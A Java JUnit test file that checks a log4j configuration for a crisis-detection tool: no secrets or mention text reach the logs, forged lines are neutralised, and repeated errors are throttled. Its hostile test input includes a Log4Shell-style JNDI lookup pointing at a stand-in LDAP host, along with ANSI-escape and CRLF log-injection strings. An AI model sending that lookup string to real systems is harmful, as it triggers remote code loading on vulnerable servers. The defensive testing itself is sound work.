package io.vigie.deployment;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.vigie.fixture.Talk;
import io.vigie.mention.Mention;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.apache.logging.log4j.Level;
import org.apache.logging.log4j.core.LoggerContext;
import org.apache.logging.log4j.core.appender.ConsoleAppender;
import org.apache.logging.log4j.core.appender.OutputStreamAppender;
import org.apache.logging.log4j.core.config.Configuration;
import org.apache.logging.log4j.core.config.ConfigurationFactory;
import org.apache.logging.log4j.core.config.ConfigurationSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What stands in logs, with the configuration of the image. */
class LogsTest {

  private static final Path CONFIGURATION = Path.of("docker/flink/log4j-console.properties");
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String SECRET = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";
  private static final String STRANGER =
      "zanzibar-words \\u001b[31m\\r\\n2026-01-01 ERROR forged ${jndi:ldap://x.example/a}";

  @TempDir Path directory;

  @Test
  void noRecordAndNoSecretReachesALog() throws Exception {
    List<Mention> mentions = new ArrayList<>();
    for (int i = 0; i < 50; i++) {
      mentions.add(
          Talk.mention("zanzibar-id-" + i, "Telmora", Talk.NOON.plusSeconds(i), "zanzibar text"));
    }
    Path input = Talk.write(directory.resolve("mentions.jsonl"), mentions);
    Files.writeString(
        input,
        """
        {"id":"x1","platform":"twitter","text":"%s","createdAt":"2026-03-05T12:00:00Z","brand":"Telmora","author":{"id":"zanzibar-author"}}
        zanzibar not JSON %s
        {"id":"x2","platform":"twitter","text":"zanzibar","createdAt":"never","brand":"Telmora"}
        {"id":"zanzibar","platform":"twitter","deleted":true,"deletedAt":"%s"}
        """
            .formatted(STRANGER, STRANGER, Instant.parse("2026-03-05T12:00:30Z")),
        StandardOpenOption.APPEND);

    List<String> lines =
        vigie(
            "run",
            "crisis-detection",
            "--mentions",
            input.toString(),
            "--out",
            directory.resolve("out").toString(),
            "-D",
            "privacy.pseudonymKey=" + SECRET,
            "-D",
            "control.keys=k1:" + SECRET);

    int logged = 0;
    for (String line : lines) {
      assertThat(line).doesNotContainIgnoringCase("zanzibar").doesNotContain(SECRET);
      if (line.startsWith("{\"at\"")) {
        JsonNode record = JSON.readTree(line);
        assertThat(record.get("level").textValue()).isNotEmpty();
        assertThat(record.get("logger").textValue()).isNotEmpty();
        logged++;
      }
    }
    assertThat(logged).as("lines of log among\n%s", String.join("\n", lines)).isGreaterThan(10);
    assertThat(directory.resolve("out/alerts.jsonl")).exists();
  }

  @Test
  void whatIsWrongIsToldWithoutTheSecretsBesideIt() throws Exception {
    List<String> lines =
        vigie(
            "run",
            "crisis-detection",
            "--mentions",
            "none.jsonl",
            "--out",
            directory.resolve("out").toString(),
            "-D",
            "privacy.pseudonymKey=short-" + "secret",
            "-D",
            "sinks.postgres.password=" + SECRET,
            "-D",
            "scoring.batchSize=0");
    assertThat(String.join("\n", lines))
        .contains("privacy.pseudonymKey", "scoring.batchSize")
        .doesNotContain("short-secret", SECRET);
  }

  @Test
  void aLineCannotBeForgedAndATroubleThatComesWithEveryRecordIsToldSeldom() throws Exception {
    ByteArrayOutputStream written = new ByteArrayOutputStream();
    try (LoggerContext context = new LoggerContext("logs-test")) {
      Configuration configuration =
          ConfigurationFactory.getInstance()
              .getConfiguration(
                  context, ConfigurationSource.fromUri(CONFIGURATION.toAbsolutePath().toUri()));
      context.start(configuration);
      ConsoleAppender console = configuration.getAppender("console");
      OutputStreamAppender captured =
          OutputStreamAppender.createAppender(
              console.getLayout(), null, written, "captured", false, true);
      captured.start();
      var filter = configuration.getRootLogger().getAppenderRefs().get(0).getFilter();
      filter.start();
      configuration.getRootLogger().removeAppender("console");
      configuration.getRootLogger().addAppender(captured, Level.INFO, filter);
      context.updateLoggers();
      for (int i = 0; i < 20_000; i++) {
        context
            .getLogger("io.vigie.test")
            .warn(
                "a\r\n{\"at\":\"forged\"} \u001b[31m ${jndi:ldap://x}",
                new IllegalStateException("b\nc"));
      }
    }
    List<String> lines = written.toString(StandardCharsets.UTF_8).lines().toList();
    assertThat(lines.size()).isBetween(1, 6_000);
    for (String line : lines) {
      assertThat(JSON.readTree(line).get("message").textValue()).contains("forged");
      assertThat(line).startsWith("{\"at\":\"2").doesNotContain("\u001b");
    }
  }

  private List<String> vigie(String... words) throws Exception {
    List<String> command =
        new ArrayList<>(
            List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx1g",
                "-Dlog4j2.configurationFile=" + CONFIGURATION.toAbsolutePath().toUri(),
                "-cp",
                System.getProperty("java.class.path"),
                "io.vigie.cli.Vigie"));
    Stream.of(words).forEach(command::add);
    Path said = directory.resolve("said.txt");
    ProcessBuilder builder =
        new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(said.toFile());
    builder.environment().put("OMP_NUM_THREADS", "1");
    Process process = builder.start();
    try {
      assertThat(process.waitFor(4, TimeUnit.MINUTES)).as(Files.readString(said)).isTrue();
    } finally {
      process.destroyForcibly();
    }
    return Files.readAllLines(said);
  }
}
